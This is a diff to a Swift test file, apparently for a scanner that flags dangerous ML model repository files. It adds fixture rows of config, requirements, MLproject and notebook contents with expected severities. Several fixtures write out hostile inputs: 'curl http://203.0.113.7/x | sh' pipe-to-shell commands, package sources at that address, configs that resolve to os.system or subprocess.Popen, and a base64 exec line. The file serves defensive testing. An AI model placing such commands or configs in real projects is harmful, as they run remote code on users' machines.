@@ -15,6 +15,29 @@ import Testing
         ("config.json", #"{"auto_map": {"AutoModel": "modeling.M"}}"#, .medium),
         ("config.json", #"{"x": {"auto\u005fmap": {"AutoModel": "a/b--m.M"}}}"#, .high),
         ("config.json", #"{"trust_remote_code": true}"#, .medium),
+        ("config.yaml", "? _target_\n: os.system\n", .critical),
+        ("config.yaml", "a:\n - - - _target_: |-\n        os.system\n", .medium),
+        ("adapter_config.json", #"{"auto_mapping": {"base_model_class": "M", "parent_library": "os"}}"#, .medium),
+        ("router_config.json", #"{"types": {"q": "subprocess.Popen"}, "structure": {}}"#, .critical),
+        ("requirements.txt", "https://203.0.113.7/evil-1.0-py3-none-any.whl\n", .medium),
+        ("pip.conf", "[global]\nindex-url = http://203.0.113.7/simple\n", .medium),
+        ("pyproject.toml", "[build-system]\nrequires = ['evil @ http://203.0.113.7/e.tar.gz']\n", .medium),
+        ("MLproject", "entry_points:\n  main:\n    command: \"curl http://203.0.113.7/x | sh\"\n", .medium),
+        (
+            "demo.ipynb",
+            ##"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "%%bash\ncurl http://203.0.113.7/x | bash\n"}]}"##,
+            .medium
+        ),
+        (
+            "demo.ipynb",
+            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = !curl http://203.0.113.7/x | sh"}]}"#,
+            .medium
+        ),
+        (
+            "demo.ipynb",
+            #"{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["exec(__import__('base64').b64decode('cHJpbnQoMSk='))"]}]}]}"#,
+            .critical
+        ),
         ("config.yaml", "model:\n  class_path: os.system\n  init_args: {command: id}\n", .critical),
         ("config.yaml", "model: {target: subprocess.Popen, params: {args: id}}\n", .critical),
         ("config.json", #"{"model": {"type": "os.system", "command": "id"}}"#, .medium),
